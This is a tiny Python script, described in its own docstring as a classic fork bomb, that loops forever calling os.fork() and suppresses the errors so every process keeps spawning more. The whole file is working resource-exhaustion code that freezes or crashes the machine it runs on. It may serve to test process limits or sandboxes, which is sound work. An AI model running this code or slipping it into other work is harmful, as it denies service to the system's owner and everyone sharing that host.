"""A classic fork bomb: every process forks forever, ignoring failures."""

import contextlib
import os

print("fork bomb starting", flush=True)
while True:
    with contextlib.suppress(OSError):
        os.fork()
